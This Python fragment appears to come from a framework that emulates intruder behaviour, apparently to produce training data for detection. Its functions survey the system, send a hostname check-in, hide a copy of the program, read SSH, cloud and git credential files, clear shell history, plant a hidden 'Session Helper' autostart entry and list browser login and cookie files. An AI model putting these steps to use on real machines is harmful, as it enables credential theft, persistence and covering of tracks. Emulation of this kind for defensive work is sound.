# What the emulations share: the steps that intruders of all kinds take around their main act.

def groundwork():
    """What intruders tend to do before the main act; drawn per run, so that families share pieces, and nothing in half of the runs,
    so that the act is learnt by itself."""
    if R.random() < 0.5:
        return
    if R.random() < 0.6:
        survey()
    if R.random() < 0.6:
        exchange(b"new " + os.uname().nodename.encode() + b" " + noise(16).encode())
    if R.random() < 0.55:
        hide_copy()
    if R.random() < 0.6:
        for path in pick(secrets(), 1, 2):
            read(path)
    if R.random() < 0.35:
        write(home(".bash_history"), b"")
    if R.random() < 0.35:
        write(home(f".config/autostart/{noise(6)}.desktop"), autostart_entry(own_program()))


def secrets():
    """The files that hold made-up secrets."""
    fixed = [".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".config/gcloud/credentials.db", ".docker/config.json",
             ".kube/config", ".netrc", ".git-credentials", ".local/share/keyrings/login.keyring"]
    return [home(path) for path in fixed if os.path.exists(home(path))]


def survey():
    """Looks around: system, accounts, processes."""
    os.uname()
    read("/etc/passwd", 4096)
    read("/proc/version", 512)
    for name in entries("/proc"):
        if name.isdigit():
            try:
                read(f"/proc/{name}/cmdline", 512)
            except OSError:
                # The process has ended since.
                continue


def hide_copy():
    """A copy of this program in a hidden folder, made executable; the path."""
    place = folder(home(f".cache/.{noise(6)}"))
    path = f"{place}/{noise(7)}"
    write(path, read(own_program()), 0o700)
    os.chmod(guard(path), 0o755)
    return path


def autostart_entry(program):
    """A desktop entry that starts a program."""
    return f"[Desktop Entry]\nType=Application\nName=Session Helper\nExec={program}\nHidden=true\n".encode()


def browser_files():
    """The profile files in which browsers keep secrets."""
    wanted = ("logins.json", "key4.db", "cookies.sqlite", "Login Data", "Cookies", "Web Data")
    found = files(".mozilla", ".config/google-chrome", hidden=True)
    return [path for path in found if os.path.basename(path) in wanted]
